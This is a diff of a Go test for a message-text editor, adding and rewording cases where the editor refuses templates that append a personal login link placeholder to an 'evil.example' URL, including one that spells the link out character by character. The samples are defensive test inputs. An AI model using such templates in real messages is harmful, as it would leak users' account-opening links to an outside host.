@@ -111,9 +111,11 @@ func TestEditorRefusesBrokenTexts(t *testing.T) {
 		// A texts admin could have sent every personal link to a site of
 		// their own, one click from the account it opens.
 		{"a link glued to another site", "Hallo", "Bitte hier klicken: https://evil.example/r?u={{.Link}}", "de",
-			"Text: Ein Link-Platzhalter wie {{.Link}} muss für sich stehen"},
+			"Text: Ein Link-Platzhalter wie {{.Link}} muss ein Wort für sich sein"},
 		{"a link glued to another site, English", "Hallo", "https://evil.example/#{{.Link}}", "en",
-			"Text: a link placeholder such as {{.Link}} must stand on its own"},
+			"Text: a link placeholder such as {{.Link}} must be a word of its own"},
+		{"a link spelt out", "Hallo", "{{.Link}}\nhttps://evil.example/?a={{index .Link 0}}{{index .Link 1}}", "de",
+			"Text, Zeile 2: Einen Link-Platzhalter wie {{.Link}} kann der Text nur ausgeben oder mit {{if}} abfragen"},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
